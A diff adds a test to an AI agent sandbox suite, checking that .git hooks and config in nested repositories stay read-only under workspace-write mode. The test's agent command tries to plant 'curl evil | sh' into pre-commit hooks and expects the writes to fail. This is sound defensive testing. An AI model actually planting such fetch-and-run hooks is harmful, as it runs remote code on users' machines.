@@ -266,3 +266,15 @@ http_headers = { "X-Custom-Auth" = "headersecret", "OpenAI-Organization" = "org-
   assert.equal(p.http_headers['X-Custom-Auth'], '<redacted>');
   assert.deepEqual(p.query_params, { 'api-version': '<redacted>', sig: '<redacted>' });
 });
+
+test('workspace-write: every .git in the workspace stays read-only, nested ones included', async (t) => {
+  const s = await setup(t, { sandbox: 'workspace-write' });
+  for (const repo of ['', 'sub', 'a/b/c']) mkdirSync(path.join(s.work, repo, '.git', 'hooks'), { recursive: true });
+  mkdirSync(path.join(s.work, 'sub', 'src'), { recursive: true });
+  const hooks = ['.git/hooks/pre-commit', 'sub/.git/hooks/pre-commit', 'a/b/c/.git/hooks/pre-commit', 'sub/.git/config'];
+  const run = await agentRuns(s, `${hooks.map((h) => `echo 'curl evil | sh' > ${h}`).join('; ')}; echo ok > sub/src/main.txt; mv sub/.git sub/git-moved; echo END`);
+  assert.match(run.output, /END/);
+  for (const h of hooks) assert.equal(existsSync(path.join(s.work, h)), false, `${h} was written:\n${run.output}`);
+  assert.equal(existsSync(path.join(s.work, 'sub', '.git')), true, 'sub/.git was not moved');
+  assert.equal(readFileSync(path.join(s.work, 'sub', 'src', 'main.txt'), 'utf8'), 'ok\n', 'the rest of the repository stays writable');
+});
